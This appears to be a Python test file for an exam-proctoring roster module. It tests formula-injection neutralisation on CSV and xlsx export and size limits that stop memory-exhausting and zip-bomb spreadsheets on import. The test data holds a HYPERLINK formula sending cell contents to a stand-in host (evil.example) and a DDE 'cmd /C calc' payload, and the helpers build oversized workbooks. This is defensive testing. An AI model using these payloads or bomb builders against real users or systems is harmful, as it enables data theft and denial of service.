"""Roster files from outside: formula injection on export, size limits on import (an .xlsx
or CSV made to exhaust memory is refused, by name, before it is materialised)."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from proctoring import roster
from proctoring.errors import (
    RosterFieldTooLong,
    RosterTooLarge,
    RosterTooManyColumns,
    RosterTooManyRows,
)
from proctoring.roster import export_roster, import_roster, read_table
from proctoring.store import Store

from .helpers import ACTOR, centre_and_session

HEADER = ["Số báo danh", "Họ và tên", "Ngày sinh", "Giới tính", "Số CCCD", "Chỗ ngồi", "Xe"]
HOSTILE = [
    ["+001", '=HYPERLINK("http://evil.example/?d="&C2,"Xem")', "14/05/1993", "Nam",
     "001093014275", "@SUM(A1:A9)", "-1+1"],
    ["002", "\t=cmd|' /C calc'!A0", "03/02/1990", "Nữ", "001190012345", "A2", ""],
]


def _write_csv(path: Path, rows: list[list[str]], header: list[str] = HEADER) -> Path:
    with path.open("w", encoding="utf-8-sig", newline="") as f:
        writer = csv.writer(f)
        writer.writerow(header)
        writer.writerows(rows)
    return path


def test_export_neutralises_formulas_and_imports_back(store: Store, tmp_path: Path) -> None:
    centre_and_session(store)
    import_roster(store, "S1", _write_csv(tmp_path / "in.csv", HOSTILE), actor=ACTOR)
    export_roster(store, "S1", tmp_path / "out.csv", lang="en")  # English headers (issue 13)
    raw = (tmp_path / "out.csv").read_bytes().decode("utf-8-sig")
    cells = [c for row in csv.reader(io.StringIO(raw, newline="")) for c in row]
    for cell in cells:
        assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), cell
    exported = list(csv.DictReader(io.StringIO(raw, newline="")))
    assert exported[0]["Full name"] == "'" + HOSTILE[0][1]  # readable behind the mark
    assert exported[0]["Registration number"] == "'+001"
    assert exported[0]["Seat"] == "'@SUM(A1:A9)" and exported[0]["Vehicle"] == "'-1+1"
    assert exported[0]["No."] == "1"  # a number the product writes stays a number
    # And the exported file imports again with the names as they were.
    centre_and_session(store, code="S2")
    import_roster(store, "S2", tmp_path / "out.csv", actor=ACTOR)
    export_roster(store, "S2", tmp_path / "again.xlsx")
    sheet = load_workbook(tmp_path / "again.xlsx").worksheets[0]
    assert sheet.cell(2, 4).value == HOSTILE[0][1]
    assert sheet.cell(2, 4).data_type == "s"  # text in the workbook, not a formula


def test_a_slash_in_the_session_code_exports_to_excel(store: Store, tmp_path: Path) -> None:
    centre_and_session(store, code="TH/2026:1")
    import_roster(store, "TH/2026:1", _write_csv(tmp_path / "in.csv", HOSTILE), actor=ACTOR)
    assert export_roster(store, "TH/2026:1", tmp_path / "out.xlsx") == 2
    assert load_workbook(tmp_path / "out.xlsx").sheetnames == ["TH-2026-1"]


def _one_far_cell(path: Path, ref: str, dimension: str | None) -> Path:
    """The attack file: a header and one cell far away; the sheet's <dimension> honest,
    lying, or absent (openpyxl writes it; we rewrite it)."""
    book = Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(HEADER)
    sheet[ref] = "x"
    buf = io.BytesIO()
    book.save(buf)
    out = io.BytesIO()
    with zipfile.ZipFile(buf) as src, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as dst:
        for item in src.infolist():
            data = src.read(item)
            if item.filename == "xl/worksheets/sheet1.xml":
                text = data.decode()
                if dimension is None:
                    text = re.sub(r"<dimension [^>]*/>", "", text)
                else:
                    text = re.sub(r'<dimension ref="[^"]*"', f'<dimension ref="{dimension}"',
                                  text)
                data = text.encode()
            dst.writestr(item, data)
    path.write_bytes(out.getvalue())
    return path


def test_the_xfd1048576_workbook_is_refused_by_its_size(tmp_path: Path) -> None:
    # 5 KB that made openpyxl build 1 048 576 rows of 16 384 cells (MemoryError at 2 GiB).
    path = _one_far_cell(tmp_path / "bomb.xlsx", "XFD1048576", "A1:XFD1048576")
    assert path.stat().st_size < 8000
    with pytest.raises(RosterTooManyRows) as err:
        read_table(path)
    assert err.value.context["limit"] == roster.MAX_ROWS


@pytest.mark.parametrize("dimension", [None, "A1:G1"])
def test_a_lying_or_missing_dimension_is_caught_while_reading(tmp_path: Path,
                                                              dimension: str | None) -> None:
    path = _one_far_cell(tmp_path / "bomb.xlsx", "XFD1048576", dimension)
    with pytest.raises(RosterTooManyRows):
        read_table(path)
    # Without an honest dimension, openpyxl is asked for 101 columns and drops the cells past
    # them while it parses; the row is never wider. (Column 101 itself is caught: below.)
    wide = _one_far_cell(tmp_path / "wide.xlsx", "XFD2", dimension)
    table = read_table(wide)
    assert len(table.header) <= roster.MAX_COLUMNS and table.rows == []


def test_a_sheet_just_past_the_limits_is_refused(tmp_path: Path) -> None:
    path = _one_far_cell(tmp_path / "rows.xlsx", f"A{roster.MAX_SHEET_ROWS + 1}", None)
    with pytest.raises(RosterTooManyRows):
        read_table(path)
    wide = _one_far_cell(tmp_path / "cols.xlsx", "CW2", "A1:CW2")  # column 101
    with pytest.raises(RosterTooManyColumns):
        read_table(wide)


def test_a_zip_bomb_is_refused_before_it_expands(tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(roster, "MAX_XLSX_UNPACKED", 64 * 1024)  # the same check, small
    path = _one_far_cell(tmp_path / "big.xlsx", "A2", None)
    with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/padding.xml", b" " * (128 * 1024))
    with pytest.raises(RosterTooLarge):
        read_table(path)


def test_csv_limits_rows_fields_columns_and_size(tmp_path: Path,
                                                 monkeypatch: pytest.MonkeyPatch) -> None:
    row = ["001", "An", "14/05/1993", "Nam", "001093014275", "A1", ""]
    many = _write_csv(tmp_path / "many.csv", [row] * (roster.MAX_ROWS + 1))
    with pytest.raises(RosterTooManyRows) as err:
        read_table(many)
    assert err.value.context["limit"] == roster.MAX_ROWS
    long = _write_csv(tmp_path / "long.csv", [[*row[:1], "A" * (roster.MAX_FIELD + 1),
                                                *row[2:]]])
    with pytest.raises(RosterFieldTooLong) as too_long:
        read_table(long)
    assert too_long.value.context["row"] == 2
    huge = tmp_path / "huge.csv"
    huge.write_text(",".join(HEADER) + "\n" + "x" * 200_000 + "\n", encoding="utf-8")
    with pytest.raises(RosterFieldTooLong):  # past csv's own field limit too
        read_table(huge)
    wide = _write_csv(tmp_path / "wide.csv", [row + [""] * 200 + ["x"]])
    with pytest.raises(RosterTooManyColumns):
        read_table(wide)
    monkeypatch.setattr(roster, "MAX_FILE_BYTES", 1024)
    with pytest.raises(RosterTooLarge):
        read_table(many)


def test_one_row_of_many_cells_is_refused_before_openpyxl_builds_it(tmp_path: Path) -> None:
    # openpyxl builds a whole row before dropping cells past max_col: a 73 KB file holding one
    # row of a million cells took 750 MiB and 18 s. Counted first (expat), it stops at 101.
    path = _one_far_cell(tmp_path / "row.xlsx", "B2", None)
    with zipfile.ZipFile(path) as src:
        parts = {i.filename: src.read(i) for i in src.infolist()}
    sheet = parts["xl/worksheets/sheet1.xml"].decode()
    cell = re.search(r'<c r="B2"[^>]*>.*?</c>', sheet)
    assert cell is not None
    parts["xl/worksheets/sheet1.xml"] = sheet.replace(cell[0], cell[0] * 50_000).encode()
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as dst:
        for name, data in parts.items():
            dst.writestr(name, data)
    with pytest.raises(RosterTooManyColumns):
        read_table(path)
